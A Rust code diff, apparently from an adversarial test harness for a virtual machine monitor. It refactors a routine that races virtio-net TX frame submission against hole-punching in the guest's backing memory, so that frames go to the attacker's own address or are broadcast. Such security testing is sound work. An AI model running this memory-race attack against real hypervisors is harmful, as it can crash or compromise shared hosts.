@@ -19,9 +19,19 @@ const PAUSE: Duration = Duration::from_millis(300);
 const BEGIN: usize = 64;
 const BODY: usize = 1400;
 
-/// Broadcasts frames whose bodies are in memory that becomes a hole meanwhile, and has buffers there. Each time by another port: that of the last
-/// one is closed.
-pub fn punch(attacker: &mut Attacker) -> Result<u64, String> {
+/// Sends frames to itself from memory that becomes a hole meanwhile.
+pub fn own(attacker: &mut Attacker) -> Result<u64, String> {
+    let to = attacker.mac();
+    punch(attacker, to, 0)
+}
+
+/// Broadcasts frames whose bodies are in memory that becomes a hole meanwhile, and has buffers there.
+pub fn shared(attacker: &mut Attacker) -> Result<u64, String> {
+    punch(attacker, MacAddr::BROADCAST, BEGIN)
+}
+
+/// Makes a hole, each time by another port: that of the last one is closed. The first bytes of a frame, so many, lie outside of it.
+fn punch(attacker: &mut Attacker, to: MacAddr, outside: usize) -> Result<u64, String> {
     let port = attacker.next_port();
     if port >= Class::VirtioHoles.ports() {
         // All are closed.
@@ -30,8 +40,8 @@ pub fn punch(attacker: &mut Attacker) -> Result<u64, String> {
     }
     let stream = attacker.connect_to(port)?;
     let mut machine = Machine::boot_sparse(stream, attacker.mac(), HOLE.end)?;
-    let frame = addressed(attacker.mac(), MacAddr::BROADCAST, BEGIN);
-    let begin = [&[0; HEADER][..], &frame].concat();
+    let frame = addressed(attacker.mac(), to, outside.max(14));
+    let begin = [&[0; HEADER][..], &frame[..outside]].concat();
     machine.memory.copy_in(TX_DATA, &begin).map_err(text)?;
     machine.fill(HOLE)?;
     let file = machine.file()?;
@@ -41,7 +51,9 @@ pub fn punch(attacker: &mut Attacker) -> Result<u64, String> {
         let puncher = scope.spawn(move || Machine::hole(&file, HOLE));
         while !puncher.is_finished() {
             machine.take_all();
-            machine.post_apart(HOLE, PAGE)?;
+            if outside > 0 {
+                machine.post_apart(HOLE, PAGE)?;
+            }
             machine.reclaim();
             let chain = |at| [buffer(TX_DATA, begin.len(), false), buffer(at, BODY, false)];
             while machine.tx.offer(&chain(place), None).is_some() {
